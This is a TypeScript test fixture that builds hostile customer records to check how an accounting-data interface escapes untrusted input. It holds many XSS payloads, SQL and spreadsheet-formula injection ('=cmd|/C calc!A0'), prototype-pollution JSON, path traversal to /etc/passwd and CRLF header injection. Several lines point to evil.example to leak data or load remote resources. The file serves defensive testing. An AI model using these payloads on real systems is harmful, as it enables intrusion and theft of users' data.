import type { Customer } from '../codat/wire.ts'
import { numbered } from './hand-made.ts'

/** Parsed, because a literal would set the prototype instead of making a member of that name. */
const poisoned = JSON.parse(
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"<img src=x onerror=alert(1)>":{"a":"b"}}',
) as Record<string, unknown>

/** One text in every member that is shown. */
const everywhere = (text: string): Partial<Customer> => ({
  customerName: text,
  contactName: text,
  emailAddress: text,
  phone: text,
  registrationNumber: text,
  taxNumber: text,
  addresses: [
    { type: 'Billing', line1: text, line2: text, city: text, region: text, country: text, postalCode: text },
  ],
  contacts: [{ name: text, email: text, phone: [{ type: 'Primary', number: text }], status: 'Active' }],
  supplementalData: { content: { [text]: { [text]: text } } },
})

/** Deep enough to trouble what walks it without care. */
const nested = Array.from({ length: 200 }).reduce<Record<string, unknown>>((inner) => ({ a: inner }), {
  text: '<script>alert(1)</script>',
})

export const hostileCustomers = (): Customer[] =>
  numbered(
    [
      { customerName: '<script>alert(document.domain)</script>' },
      { customerName: '<img src=x onerror=alert(1)>', contactName: '"><svg onload=alert(1)>' },
      { customerName: "'; DROP TABLE customers; --", contactName: "Robert'); --" },
      {
        customerName: 'javascript:alert(1)',
        emailAddress: 'javascript:alert(1)',
        phone: 'javascript:alert(1)',
      },
      { customerName: 'Mail trap', emailAddress: 'a@b.example?subject=x&bcc=thief@evil.example' },
      { customerName: 'Data link', emailAddress: 'data:text/html,<script>alert(1)</script>' },
      { customerName: '=HYPERLINK("https://evil.example","open")', contactName: '=cmd|/C calc!A0' },
      { customerName: '+441134960000', contactName: '-2+3', phone: '@SUM(A1:A9)' },
      { customerName: '\t=1+1', contactName: '\r=1+1' },
      { customerName: 'Invoice\u202Egpj.exe', contactName: 'bidi override' },
      { customerName: '\u2066Isolated\u2069 \u200Fname', contactName: 'isolates and marks' },
      { customerName: 'Zero\u200Bwidth\u200Dspace\uFEFF', contactName: '\u0000null and \u0007bell' },
      { customerName: '__proto__', contactName: 'constructor', registrationNumber: 'toString' },
      { customerName: 'Poisoned details', supplementalData: { content: poisoned } },
      {
        customerName: 'Details of another shape',
        supplementalData: { content: { empty: null, list: [1, [2]], text: '<i>' } },
      },
      { customerName: '{{constructor.constructor("alert(1)")()}}', contactName: '${alert(1)}' },
      { customerName: '%3Cscript%3Ealert(1)%3C/script%3E', contactName: '&lt;b&gt;not bold&lt;/b&gt;' },
      { customerName: 'Line one\nLine two\r\nLine three', contactName: 'tabs\tand\tbreaks' },
      { customerName: '   ', contactName: '\u00A0\u2003', emailAddress: ' ' },
      { customerName: 'null', contactName: 'undefined', emailAddress: 'NaN', taxNumber: '[object Object]' },
      { customerName: '../../../../etc/passwd', contactName: 'C:\\Windows\\System32' },
      {
        customerName: 'Unknown enums',
        status: 'Dormant',
        defaultCurrency: 'XXX',
        addresses: [{ type: 'Moon base', line1: '<b>Crater 7</b>' }],
        contacts: [{ status: 'Retired', phone: [{ type: 'Telex', number: 'tel:+1;ext=<script>' }] }],
      },
      { customerName: 'Odd dates', sourceModifiedDate: 'yesterday', modifiedDate: '2026-13-45T99:99:99Z' },
      everywhere('"><script>alert(1)</script>'),
      everywhere('<svg/onload=alert(1)>'),
      everywhere("' autofocus onfocus=alert(1) x='"),
      everywhere('javascript:alert(1)//'),
      { customerName: '<iframe src="javascript:alert(1)">', contactName: '<object data=//evil.example>' },
      {
        customerName: '<a href="javascript:alert(1)">click</a>',
        contactName: '<a href=//evil.example>x</a>',
      },
      {
        customerName: '<style>*{background:url(https://evil.example/x)}</style>',
        contactName: '*/}body{}/*',
      },
      { customerName: '<link rel=stylesheet href=https://evil.example/x.css>' },
      { customerName: '<meta http-equiv=refresh content="0;url=https://evil.example/">' },
      { customerName: '<base href=https://evil.example/>', contactName: '<form action=//evil.example>' },
      { customerName: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
      {
        customerName: '</title><script>alert(1)</script>',
        contactName: '</textarea><script>alert(1)</script>',
      },
      { customerName: '<!--<img src="--><img src=x onerror=alert(1)//">', contactName: ']]><b>not bold</b>' },
      { customerName: 'Mail header', emailAddress: 'a@b.example\r\nBcc: thief@evil.example' },
      { customerName: 'Mail address', emailAddress: '"><img/src/onerror=alert(1)>@evil.example' },
      {
        customerName: 'Hidden scheme',
        emailAddress: 'java\tscript:alert(1)',
        phone: '\u0001javascript:alert(1)',
      },
      { customerName: 'Mixed case', emailAddress: 'JaVaScRiPt:alert(1)', phone: 'vbscript:msgbox(1)' },
      {
        customerName: '//evil.example/path',
        emailAddress: 'https://evil.example/',
        phone: 'tel:0;//evil.example',
      },
      { customerName: 'Half a pair \uD83D alone', contactName: '\uDE00', emailAddress: '\uD800@b.example' },
      { customerName: 'W'.repeat(5000), contactName: '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}'.repeat(700) },
      everywhere('\u202E\u2067reversed\u202E'),
      { customerName: '${7*7} <%= 7*7 %> #{7*7} {{7*7}}', contactName: '%s %n %x', taxNumber: '{0}' },
      { customerName: 'hasOwnProperty', contactName: 'valueOf', supplementalData: { content: nested } },
      { customerName: 'HTTP/1.1 200 OK\r\nSet-Cookie: evil=1\r\n\r\n', contactName: '\u2028\u2029' },
      { customerName: '1e309', contactName: '-0', registrationNumber: '0x10', taxNumber: 'Infinity' },
      {
        customerName: 'Very many',
        addresses: Array.from({ length: 60 }, () => ({ type: 'Delivery', line1: '<b>x</b>' })),
        contacts: Array.from({ length: 60 }, () => ({ name: '<i>x</i>', status: 'Active' })),
      },
      {
        customerName: 'Status and currency',
        status: '<b>Active</b>',
        defaultCurrency: '<img src=x onerror=alert(1)>',
      },
    ],
    'HOSTILE',
  )
